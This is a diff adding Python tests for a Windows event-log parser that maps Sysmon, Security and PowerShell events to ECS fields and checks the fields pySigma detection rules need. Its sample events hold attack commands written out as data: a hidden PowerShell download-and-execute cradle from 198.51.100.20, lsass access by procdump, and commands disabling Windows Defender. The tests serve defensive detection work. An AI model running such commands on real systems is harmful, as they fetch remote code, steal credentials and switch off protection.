@@ -452,3 +452,422 @@ def test_registered_with_json_settings() -> None:
     parser = parsers.get("winlog-json")
     assert "winlog-json" in parsers.names()
     assert parser.timestamp_required and not parser.keep_original
+
+
+# ------------------------------------------------ Sysmon: the events beyond 1, 3, 11 and 22
+
+TEMP = "C:\\Users\\tranthib\\AppData\\Local\\Temp\\"
+SHA256 = "DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C"
+ACTOR = {"ProcessGuid": "{6f1d2b3c-0007}", "ProcessId": "6120", "User": "SOTN\\tranthib",
+         "Image": "C:\\Windows\\System32\\rundll32.exe"}
+ACTOR_FIELDS = {"process.entity_id": "{6f1d2b3c-0007}", "process.pid": 6120,
+                "process.executable": "C:\\Windows\\System32\\rundll32.exe",
+                "process.name": "rundll32.exe", "user.name": "tranthib", "user.domain": "SOTN"}
+
+
+@pytest.mark.parametrize(("event_id", "data", "expected"), [
+    (2, {**ACTOR, "TargetFilename": TEMP + "upd.exe",
+         "CreationUtcTime": "2019-03-01 08:00:00.000"},
+     {**ACTOR_FIELDS, "file.path": TEMP + "upd.exe", "file.name": "upd.exe",
+      "file.directory": TEMP.rstrip("\\"), "file.extension": "exe", "event.category": ["file"],
+      "event.type": ["change"], "event.action": "A process changed a file creation time"}),
+    (5, ACTOR,
+     {**ACTOR_FIELDS, "event.category": ["process"], "event.type": ["end"],
+      "event.action": "Process terminated", "file.path": None}),
+    (6, {"ImageLoaded": "C:\\Windows\\System32\\drivers\\gdrv.sys",
+         "Hashes": f"SHA256={SHA256},IMPHASH=00000000000000000000000000000000",
+         "Signed": "true", "Signature": "Giga-Byte Technology", "SignatureStatus": "Valid"},
+     {"file.path": "C:\\Windows\\System32\\drivers\\gdrv.sys", "file.name": "gdrv.sys",
+      "file.extension": "sys", "file.code_signature.signed": True,
+      "file.code_signature.subject_name": "Giga-Byte Technology",
+      "file.code_signature.status": "Valid", "file.code_signature.valid": True,
+      "file.hash.sha256": SHA256.lower(), "file.pe.imphash": None, "process.hash.sha256": None,
+      "process.executable": None, "event.category": ["driver"], "event.type": ["start"],
+      "event.action": "Driver loaded"}),
+    (7, {**ACTOR, "ImageLoaded": TEMP + "wtsapi32.dll", "FileVersion": "1.0.0.1",
+         "Description": "Remote Desktop Session Host Server SDK APIs", "Product": "Windows",
+         "Company": "-", "OriginalFileName": "wtsapi32.dll",
+         "Hashes": f"SHA256={SHA256},IMPHASH=741776AACCFC5B71FF59832DCDCACE0F",
+         "Signed": "false", "Signature": "-", "SignatureStatus": "Unavailable"},
+     {**ACTOR_FIELDS, "file.path": TEMP + "wtsapi32.dll", "file.name": "wtsapi32.dll",
+      "file.code_signature.signed": False, "file.code_signature.status": "Unavailable",
+      "file.code_signature.subject_name": None, "file.code_signature.valid": None,
+      "file.pe.file_version": "1.0.0.1",
+      "file.pe.description": "Remote Desktop Session Host Server SDK APIs",
+      "file.pe.product": "Windows", "file.pe.company": None,
+      "file.pe.original_file_name": "wtsapi32.dll", "process.pe.original_file_name": None,
+      "file.hash.sha256": SHA256.lower(), "file.pe.imphash": "741776aaccfc5b71ff59832dcdcace0f",
+      "related.hash": [SHA256.lower(), "741776aaccfc5b71ff59832dcdcace0f"],
+      "event.category": ["process"], "event.type": ["change"], "event.action": "Image loaded"}),
+    (8, {"SourceProcessGuid": "{6f1d2b3c-0008}", "SourceProcessId": "4412",
+         "SourceImage": TEMP + "inject.exe", "TargetProcessGuid": "{6f1d2b3c-0001}",
+         "TargetProcessId": "668", "TargetImage": "C:\\Windows\\System32\\lsass.exe",
+         "NewThreadId": "7016", "StartAddress": "0x00007FF8A1B20000", "StartFunction": "-"},
+     {"process.executable": TEMP + "inject.exe", "process.name": "inject.exe",
+      "process.pid": 4412, "process.entity_id": "{6f1d2b3c-0008}",
+      "winlog.event_data.TargetImage": "C:\\Windows\\System32\\lsass.exe",
+      "winlog.event_data.TargetProcessId": "668", "event.category": ["process"],
+      "event.type": ["change"], "event.action": "CreateRemoteThread"}),
+    (9, {**ACTOR, "Device": "\\Device\\HarddiskVolume2"},
+     {**ACTOR_FIELDS, "file.path": "\\Device\\HarddiskVolume2", "file.name": "HarddiskVolume2",
+      "file.directory": "\\Device", "file.extension": None, "event.type": ["access"],
+      "event.action": "RawAccessRead"}),
+    (10, {"SourceProcessGUID": "{6f1d2b3c-0010}", "SourceProcessId": "5512",
+          "SourceThreadId": "5120", "SourceImage": TEMP + "procdump64.exe",
+          "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1FFFFF",
+          "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4", "SourceUser": "SOTN\\tranthib"},
+     {"process.executable": TEMP + "procdump64.exe", "process.name": "procdump64.exe",
+      "process.pid": 5512, "process.thread.id": 5120, "process.entity_id": "{6f1d2b3c-0010}",
+      "winlog.event_data.TargetImage": "C:\\Windows\\system32\\lsass.exe",
+      "winlog.event_data.GrantedAccess": "0x1FFFFF", "event.category": ["process"],
+      "event.type": ["access"], "event.action": "ProcessAccess"}),
+    (15, {**ACTOR, "TargetFilename": "C:\\Users\\tranthib\\Downloads\\hoadon.zip:Zone.Identifier",
+          "Hash": f"SHA256={SHA256},IMPHASH=00000000000000000000000000000000",
+          "Contents": "[ZoneTransfer]  ZoneId=3"},
+     {**ACTOR_FIELDS, "file.path": "C:\\Users\\tranthib\\Downloads\\hoadon.zip:Zone.Identifier",
+      "file.name": "hoadon.zip:Zone.Identifier", "file.extension": "Identifier",
+      "file.hash.sha256": SHA256.lower(), "related.hash": [SHA256.lower()],
+      "event.category": ["file"], "event.type": ["access"],
+      "event.action": "FileCreateStreamHash"}),
+    (17, {**ACTOR, "EventType": "CreatePipe", "PipeName": "\\PSEXESVC"},
+     {**ACTOR_FIELDS, "file.name": "\\PSEXESVC", "file.path": None, "event.category": ["file"],
+      "event.type": ["creation"], "event.action": "PipeEvent (Pipe Created)"}),
+    (18, {**ACTOR, "EventType": "ConnectPipe", "PipeName": "\\lsadump"},
+     {**ACTOR_FIELDS, "file.name": "\\lsadump", "event.type": ["access"],
+      "event.action": "PipeEvent (Pipe Connected)"}),
+    (19, {"EventType": "WmiFilterEvent", "Operation": "Created", "User": "SOTN\\admin.sotn",
+          "EventNamespace": "\"root\\\\cimv2\"", "Name": "\"upd\"",
+          "Query": "\"SELECT * FROM __InstanceModificationEvent WITHIN 60\""},
+     {"user.name": "admin.sotn", "user.domain": "SOTN", "process.executable": None,
+      "winlog.event_data.Operation": "Created", "event.category": ["process"],
+      "event.type": ["info"], "event.action": "WmiEvent (WmiEventFilter activity detected)"}),
+    (20, {"EventType": "WmiConsumerEvent", "Operation": "Created", "User": "SOTN\\admin.sotn",
+          "Name": "\"upd\"", "Type": "Command Line",
+          "Destination": "\"C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\upd.bat\""},
+     {"process.executable": "\"C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\upd.bat\"",
+      "user.name": "admin.sotn", "event.category": ["process"], "event.type": ["change"],
+      "event.action": "WmiEvent (WmiEventConsumer activity detected)"}),
+    (21, {"EventType": "WmiBindingEvent", "Operation": "Created", "User": "SOTN\\admin.sotn",
+          "Consumer": "\"CommandLineEventConsumer.Name=\\\"upd\\\"\"",
+          "Filter": "\"__EventFilter.Name=\\\"upd\\\"\""},
+     {"user.name": "admin.sotn", "event.type": ["access"],
+      "event.action": "WmiEvent (WmiEventConsumerToFilter activity detected)"}),
+    (23, {**ACTOR, "TargetFilename": "C:\\Users\\tranthib\\Documents\\baocao.docx",
+          "Hashes": f"SHA256={SHA256}", "IsExecutable": "false", "Archived": "true"},
+     {**ACTOR_FIELDS, "file.path": "C:\\Users\\tranthib\\Documents\\baocao.docx",
+      "file.name": "baocao.docx", "process.hash.sha256": SHA256.lower(),
+      "sysmon.file.is_executable": False, "sysmon.file.archived": True,
+      "event.category": ["file"], "event.type": ["deletion"],
+      "event.action": "FileDelete (File Delete archived)"}),
+    (25, {**ACTOR, "Type": "Image is replaced"},
+     {**ACTOR_FIELDS, "message": "Image is replaced", "winlog.event_data.Type":
+      "Image is replaced", "event.category": ["process"], "event.type": ["change"],
+      "event.action": "ProcessTampering (Process image change)"}),
+    (26, {**ACTOR, "TargetFilename": TEMP + "stage1.ps1", "Hashes": f"SHA256={SHA256}",
+          "IsExecutable": "false"},
+     {**ACTOR_FIELDS, "file.path": TEMP + "stage1.ps1", "file.extension": "ps1",
+      "process.hash.sha256": SHA256.lower(), "sysmon.file.is_executable": False,
+      "sysmon.file.archived": None, "event.category": ["file"], "event.type": ["deletion"],
+      "event.action": "FileDeleteDetected (File Delete logged)"}),
+])
+def test_sysmon_events_carry_the_fields_winlogbeat_writes(
+        event_id: int, data: dict[str, str], expected: dict[str, Any]) -> None:
+    fields = sysmon(event_id, {"RuleName": "-", "UtcTime": "2026-11-22 02:15:29.871", **data})
+    assert subset(fields, expected) == expected
+    assert {key[len("winlog.event_data."):]: value for key, value in fields.items()
+            if key.startswith("winlog.event_data.")} == {
+        "RuleName": "-", "UtcTime": "2026-11-22 02:15:29.871", **data}
+
+
+@pytest.mark.parametrize(("event_id", "data", "expected"), [
+    (12, {"EventType": "CreateKey",
+          "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\updsvc"},
+     {"registry.path": "HKLM\\System\\CurrentControlSet\\Services\\updsvc",
+      "registry.hive": "HKLM", "registry.key": "System\\CurrentControlSet\\Services\\updsvc",
+      "registry.value": "updsvc", "registry.data.strings": None, "registry.data.type": None,
+      "event.category": ["configuration", "registry"], "event.type": ["change"],
+      "event.action": "RegistryEvent (Object create and delete)"}),
+    (13, {"EventType": "SetValue",
+          "TargetObject": "HKU\\S-1-5-21-1-2-3-1107\\Software\\Microsoft\\Windows\\"
+                          "CurrentVersion\\Run\\Updater",
+          "Details": "C:\\Users\\tranthib\\AppData\\Roaming\\upd.exe"},
+     {"registry.path": "HKU\\S-1-5-21-1-2-3-1107\\Software\\Microsoft\\Windows\\"
+                       "CurrentVersion\\Run\\Updater",
+      "registry.hive": "HKU",
+      "registry.key": "S-1-5-21-1-2-3-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\"
+                      "Run\\Updater",
+      "registry.value": "Updater",
+      "registry.data.strings": ["C:\\Users\\tranthib\\AppData\\Roaming\\upd.exe"],
+      "registry.data.type": "REG_SZ", "event.action": "RegistryEvent (Value Set)",
+      "winlog.event_data.Details": "C:\\Users\\tranthib\\AppData\\Roaming\\upd.exe"}),
+    (13, {"EventType": "SetValue", "Details": "DWORD (0x0000002a)",
+          "TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\"
+                          "DisableAntiSpyware"},
+     {"registry.value": "DisableAntiSpyware", "registry.data.strings": ["42"],
+      "registry.data.type": "SZ_DWORD", "winlog.event_data.Details": "DWORD (0x0000002a)"}),
+    (13, {"EventType": "SetValue", "Details": "QWORD (0x00000001-0x00000002)",
+          "TargetObject": "HKCU\\Software\\x\\Stamp"},
+     {"registry.hive": "HKCU", "registry.data.strings": [str((1 << 32) + 2)],
+      "registry.data.type": "SZ_QWORD"}),
+    (13, {"EventType": "SetValue", "Details": "Binary Data",
+          "TargetObject": "\\REGISTRY\\MACHINE\\SOFTWARE\\x\\Blob"},
+     {"registry.hive": None, "registry.key": None, "registry.value": "Blob",
+      "registry.data.strings": ["Binary Data"], "registry.data.type": "REG_BINARY"}),
+    (14, {"EventType": "RenameKey", "TargetObject": "HKLM\\SOFTWARE\\Old",
+          "NewName": "HKLM\\SOFTWARE\\New"},
+     {"registry.path": "HKLM\\SOFTWARE\\Old", "registry.value": "Old",
+      "winlog.event_data.NewName": "HKLM\\SOFTWARE\\New", "registry.data.strings": None,
+      "event.action": "RegistryEvent (Key and Value Rename)"}),
+])
+def test_sysmon_registry_events(event_id: int, data: dict[str, str],
+                                expected: dict[str, Any]) -> None:
+    fields = sysmon(event_id, {**ACTOR, **data})
+    assert subset(fields, {**ACTOR_FIELDS, **expected}) == {**ACTOR_FIELDS, **expected}
+
+
+def test_a_tampering_event_keeps_its_rendered_message() -> None:
+    fields = parse({"@timestamp": "2026-11-22T02:15:30Z", "message": "Process Tampering:",
+                    "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational",
+                               "event_id": 25, "event_data": {**ACTOR, "Type": "Image is locked "
+                                                              "for access"}}})
+    assert fields["message"] == "Process Tampering:"
+
+
+# ------------------------------------------------------------------ Security 4697 and 4688
+
+def test_service_installed_names_the_service() -> None:
+    fields = security(4697, {
+        "SubjectUserSid": "S-1-5-21-1-2-3-500", "SubjectUserName": "admin.sotn",
+        "SubjectDomainName": "SOTN", "SubjectLogonId": "0x8c01", "ServiceName": "PSEXESVC",
+        "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "0x10",
+        "ServiceStartType": "3", "ServiceAccount": "LocalSystem"})
+    expected = {
+        "service.name": "PSEXESVC", "service.type": "Win32 Own Process",
+        "winlog.event_data.ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
+        "user.name": "admin.sotn", "user.id": "S-1-5-21-1-2-3-500", "winlog.logon.id": "0x8c01",
+        "event.category": ["iam", "configuration"], "event.type": ["admin", "change"],
+        "event.action": "service-installed", "file.path": None, "process.executable": None}
+    assert subset(fields, expected) == expected
+    driver = security(4697, {"ServiceName": "gdrv", "ServiceType": "0x00000001"})
+    unknown = security(4697, {"ServiceName": "x", "ServiceType": "0x3000"})
+    assert (driver["service.type"], unknown["service.type"]) == ("Kernel Driver", "0x3000")
+
+
+def test_process_creation_parent_is_full_path_and_name_as_in_winlogbeat() -> None:
+    fields = security(4688, {"NewProcessName": "C:\\Windows\\System32\\whoami.exe",
+                             "NewProcessId": "0x1a2c", "ProcessId": "0x13f0",
+                             "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"})
+    assert subset(fields, {"process.parent.executable": 0, "process.parent.name": 0,
+                           "process.parent.pid": 0, "process.name": 0}) == {
+        "process.parent.executable": "C:\\Windows\\System32\\cmd.exe",
+        "process.parent.name": "cmd.exe", "process.parent.pid": 0x13F0,
+        "process.name": "whoami.exe"}
+
+
+def test_no_address_is_no_source_field() -> None:
+    fields = security(4625, {"TargetUserName": "administrator", "LogonType": "2",
+                             "IpAddress": "-", "IpPort": "-", "WorkstationName": "-"})
+    assert subset(fields, {"source.ip": 0, "source.port": 0, "source.domain": 0,
+                           "related.ip": 0, "winlog.event_data.IpAddress": 0}) == {
+        "source.ip": None, "source.port": None, "source.domain": None, "related.ip": None,
+        "winlog.event_data.IpAddress": "-"}
+
+
+# --------------------------------------------------------------------------------- PowerShell
+
+POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
+SCRIPT = ("$u = 'http://198.51.100.20/a.ps1'; IEX (New-Object Net.WebClient)"
+          ".DownloadString($u)")
+WINLOGBEAT_4104 = {
+    "@timestamp": "2026-11-22T02:20:00.000Z",
+    "winlog": {"channel": POWERSHELL, "event_id": 4104, "record_id": 7710,
+               "provider_name": "Microsoft-Windows-PowerShell",
+               "computer_name": "ws-tn-015.sotn.gov.vn",
+               "user": {"identifier": "S-1-5-21-1-2-3-1107"},
+               "event_data": {"MessageNumber": "1", "MessageTotal": "3",
+                              "ScriptBlockText": SCRIPT,
+                              "ScriptBlockId": "2911f180-ac92-4970-9dd7-55c8c07ee22c",
+                              "Path": "C:\\Users\\tranthib\\Downloads\\out.ps1"}},
+}
+HOST_APPLICATION = ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w "
+                    "hidden -c $u='http://198.51.100.20/a?id=7'; IEX (New-Object "
+                    "Net.WebClient).DownloadString($u)")
+CONTEXT_INFO = (
+    "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
+    "        Host Version = 5.1.19041.4291\r\n"
+    "        Host ID = 1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11\r\n"
+    f"        Host Application = {HOST_APPLICATION}\r\n"
+    "        Engine Version = 5.1.19041.4291\r\n"
+    "        Runspace ID = 4c1f2a3b-0000-4c1f-9d7e-3e2b8b5c1a22\r\n        Pipeline ID = 1\r\n"
+    "        Command Name = New-Object\r\n        Command Type = Cmdlet\r\n"
+    "        Script Name = \r\n        Command Path = \r\n        Sequence Number = 16\r\n"
+    "        User = SOTN\\tranthib\r\n        Connected User = \r\n"
+    "        Shell ID = Microsoft.PowerShell\r\n")
+PAYLOAD = ('CommandInvocation(New-Object): "New-Object"\r\n'
+           'ParameterBinding(New-Object): name="TypeName"; value="Net.WebClient"\r\n')
+
+
+def powershell_event(channel: str, event_id: int, data: dict[str, str]) -> dict[str, Any]:
+    return parse({"@timestamp": "2026-11-22T02:20:00.000Z",
+                  "winlog": {"channel": channel, "event_id": event_id, "event_data": data,
+                             "user": {"identifier": "S-1-5-21-1-2-3-1107"}}})
+
+
+def test_script_block_logging() -> None:
+    fields = parse(WINLOGBEAT_4104)
+    expected = {
+        "event.dataset": "windows.powershell", "event.code": "4104",
+        "event.category": ["process"], "event.type": ["info"], "event.action": None,
+        "powershell.file.script_block_text": SCRIPT,
+        "powershell.file.script_block_id": "2911f180-ac92-4970-9dd7-55c8c07ee22c",
+        "powershell.sequence": 1, "powershell.total": 3,
+        "file.path": "C:\\Users\\tranthib\\Downloads\\out.ps1", "file.name": "out.ps1",
+        "file.directory": "C:\\Users\\tranthib\\Downloads", "file.extension": "ps1",
+        "user.id": "S-1-5-21-1-2-3-1107", "winlog.event_data.ScriptBlockText": SCRIPT,
+        "winlog.event_data.Path": "C:\\Users\\tranthib\\Downloads\\out.ps1",
+    }
+    assert subset(fields, expected) == expected
+    interactive = powershell_event(POWERSHELL, 4104, {"MessageNumber": "1", "MessageTotal": "1",
+                                                      "ScriptBlockText": "Get-Date", "Path": ""})
+    assert subset(interactive, {"file.path": 0, "powershell.total": 0}) == {
+        "file.path": None, "powershell.total": 1}
+
+
+def test_module_logging_reads_context_info() -> None:
+    fields = powershell_event(POWERSHELL, 4103, {"ContextInfo": CONTEXT_INFO, "UserData": "",
+                                                 "Payload": PAYLOAD})
+    expected = {
+        "process.command_line": HOST_APPLICATION, "process.title": "ConsoleHost",
+        "process.entity_id": "1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11",
+        "powershell.process.executable_version": "5.1.19041.4291",
+        "powershell.engine.version": "5.1.19041.4291",
+        "powershell.runspace_id": "4c1f2a3b-0000-4c1f-9d7e-3e2b8b5c1a22",
+        "powershell.pipeline_id": "1", "powershell.command.name": "New-Object",
+        "powershell.command.type": "Cmdlet", "powershell.command.path": None,
+        "powershell.id": "Microsoft.PowerShell", "event.sequence": 16,
+        "user.name": "tranthib", "user.domain": "SOTN", "user.id": "S-1-5-21-1-2-3-1107",
+        "source.user.name": None, "destination.user.name": None,
+        # Payload goes where pySigma's pipeline sends ps_module rules' Payload.
+        "powershell.file.script_block_text": PAYLOAD, "file.path": None,
+        "winlog.event_data.ContextInfo": CONTEXT_INFO, "winlog.event_data.Payload": PAYLOAD,
+        "winlog.event_data.HostApplication": None, "related.user": ["tranthib"],
+        "event.category": ["process"], "event.type": ["info"],
+    }
+    assert subset(fields, expected) == expected
+
+
+def test_module_logging_of_a_remote_session_and_a_long_host_application() -> None:
+    context = CONTEXT_INFO.replace(
+        "Connected User = ", "Connected User = SOTN\\admin.sotn").replace(
+        f"Host Application = {HOST_APPLICATION}\r\n",
+        "Host Application = powershell.exe -c \"a\r\n  b=c\"\r\n").replace(
+        "Script Name = ", "Script Name = C:\\Scripts\\kiemke.ps1")
+    fields = powershell_event(POWERSHELL, 4103, {"ContextInfo": context})
+    assert subset(fields, {"user.name": 0, "source.user.name": 0, "source.user.domain": 0,
+                           "destination.user.name": 0, "destination.user.domain": 0,
+                           "process.command_line": 0, "file.path": 0, "file.name": 0,
+                           "powershell.file.script_block_text": 0}) == {
+        "user.name": "admin.sotn", "source.user.name": "admin.sotn",
+        "source.user.domain": "SOTN", "destination.user.name": "tranthib",
+        "destination.user.domain": "SOTN", "process.command_line": "powershell.exe -c \"a\nb=c\"",
+        "file.path": "C:\\Scripts\\kiemke.ps1", "file.name": "kiemke.ps1",
+        "powershell.file.script_block_text": None}
+
+
+CLASSIC = "Windows PowerShell"
+PROVIDER_600 = ("\tProviderName=Registry\r\n\tNewProviderState=Started\r\n\r\n"
+                "\tSequenceNumber=1\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1.19041.4291"
+                "\r\n\tHostId=1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11\r\n"
+                "\tHostApplication=powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring"
+                " $true\r\n\tEngineVersion=\r\n\tRunspaceId=\r\n\tPipelineId=\r\n"
+                "\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n\tCommandPath=\r\n"
+                "\tCommandLine=")
+PIPELINE_800 = ("\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=15\r\n\r\n"
+                "\tUserId=SOTN\\tranthib\r\n\tHostName=ConsoleHost\r\n"
+                "\tHostVersion=5.1.19041.4291\r\n\tHostId=1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11\r\n"
+                "\tHostApplication=powershell.exe\r\n\tEngineVersion=5.1.19041.4291\r\n"
+                "\tRunspaceId=4c1f2a3b-0000-4c1f-9d7e-3e2b8b5c1a22\r\n\tPipelineId=3\r\n"
+                "\tScriptName=\r\n\tCommandLine=Get-Process -Name lsass\r\n")
+
+
+@pytest.mark.parametrize(("event_id", "data", "expected"), [
+    (600, {"param1": "Registry", "param2": "Started", "param3": PROVIDER_600},
+     {"powershell.provider.name": "Registry", "powershell.provider.new_state": "Started",
+      "event.sequence": 1, "process.title": "ConsoleHost",
+      "powershell.process.executable_version": "5.1.19041.4291",
+      "process.entity_id": "1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11",
+      "process.command_line": "powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring "
+                              "$true",
+      "powershell.engine.version": None, "powershell.command.value": None,
+      "winlog.event_data.Data": ["Registry", "Started", PROVIDER_600],
+      "event.category": ["process"], "event.type": ["info"]}),
+    (800, {"param1": "Get-Process -Name lsass", "param2": PIPELINE_800,
+           "param3": "CommandInvocation(Get-Process): \"Get-Process\"\r\n"},
+     {"powershell.sequence": 1, "powershell.total": 1, "event.sequence": 15,
+      "user.name": "tranthib", "user.domain": "SOTN", "process.command_line": "powershell.exe",
+      "powershell.engine.version": "5.1.19041.4291", "powershell.pipeline_id": "3",
+      "powershell.runspace_id": "4c1f2a3b-0000-4c1f-9d7e-3e2b8b5c1a22",
+      "powershell.command.value": "Get-Process -Name lsass", "user.id": None,
+      "event.type": ["info"], "winlog.event_data.param1": "Get-Process -Name lsass"}),
+])
+def test_classic_powershell_reads_its_data_text(event_id: int, data: dict[str, str],
+                                                expected: dict[str, Any]) -> None:
+    fields = powershell_event(CLASSIC, event_id, data)
+    assert subset(fields, {**expected, "event.dataset": 0}) == {
+        **expected, "event.dataset": "windows.windows_powershell"}
+
+
+def test_the_fields_pysigma_maps_sysmon_powershell_and_service_rules_to_are_there() -> None:
+    image_load = sigma_fields("""
+title: unsigned module from temp
+logsource: {product: windows, category: image_load}
+detection:
+  sel: {ImageLoaded|endswith: '\\wtsapi32.dll', Image|endswith: '\\rundll32.exe',
+        Signed: 'false', SignatureStatus: Unavailable, OriginalFileName: wtsapi32.dll,
+        Description|contains: Remote, Imphash: 741776aaccfc5b71ff59832dcdcace0f}
+  condition: sel
+""")
+    assert image_load == {"file.path", "process.executable", "file.code_signature.signed",
+                          "file.code_signature.status", "file.pe.original_file_name",
+                          "file.pe.description", "file.pe.imphash"}
+    assert image_load <= sysmon(7, {**ACTOR, "ImageLoaded": TEMP + "wtsapi32.dll",
+                                    "Signed": "false", "SignatureStatus": "Unavailable",
+                                    "OriginalFileName": "wtsapi32.dll", "Description": "Remote",
+                                    "Hashes": "IMPHASH=741776AACCFC5B71FF59832DCDCACE0F"}).keys()
+    cases = [
+        ("process_access", "SourceImage|endswith: x, TargetImage|endswith: lsass.exe",
+         sysmon(10, {"SourceImage": TEMP + "x", "TargetImage": "lsass.exe"})),
+        ("create_remote_thread", "SourceImage|endswith: x, TargetImage|endswith: lsass.exe",
+         sysmon(8, {"SourceImage": TEMP + "x", "TargetImage": "lsass.exe"})),
+        ("registry_set", "TargetObject|contains: Run, Details|contains: upd",
+         sysmon(13, {"TargetObject": "HKLM\\Run\\u", "Details": "upd"})),
+        ("pipe_created", "PipeName: '\\PSEXESVC'", sysmon(17, {"PipeName": "\\PSEXESVC"})),
+        ("driver_load", "ImageLoaded|endswith: '.sys', Hashes|contains: 'SHA256='",
+         sysmon(6, {"ImageLoaded": "C:\\d.sys", "Hashes": f"SHA256={SHA256}"})),
+        ("file_delete", "TargetFilename|endswith: '.ps1'", sysmon(23, {"TargetFilename": "a.ps1"})),
+        ("raw_access_thread", "Device|contains: Harddisk", sysmon(9, {"Device": "\\Device\\H"})),
+        ("wmi_event", "Destination|contains: cmd", sysmon(20, {"Destination": "cmd"})),
+        ("ps_script", "ScriptBlockText|contains: IEX", parse(WINLOGBEAT_4104)),
+        ("ps_module", "Payload|contains: WebClient, ContextInfo|contains: hidden",
+         powershell_event(POWERSHELL, 4103, {"ContextInfo": CONTEXT_INFO, "Payload": PAYLOAD})),
+        ("ps_classic_provider_start", "Data|contains: Set-MpPreference, HostApplication: x",
+         powershell_event(CLASSIC, 600, {"param3": PROVIDER_600})),
+    ]
+    for category, selection, event in cases:
+        fields = sigma_fields(f"""
+title: {category}
+logsource: {{product: windows, category: {category}}}
+detection:
+  sel: {{{selection}}}
+  condition: sel
+""")
+        assert fields <= event.keys(), (category, fields - event.keys())
+    service = sigma_fields("""
+title: psexec service
+logsource: {product: windows, service: security}
+detection:
+  sel: {EventID: 4697, ServiceName: PSEXESVC, ServiceFileName|endswith: '\\PSEXESVC.exe'}
+  condition: sel
+""")
+    assert service - {"winlog.channel"} <= security(4697, {
+        "ServiceName": "PSEXESVC", "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe"}).keys()
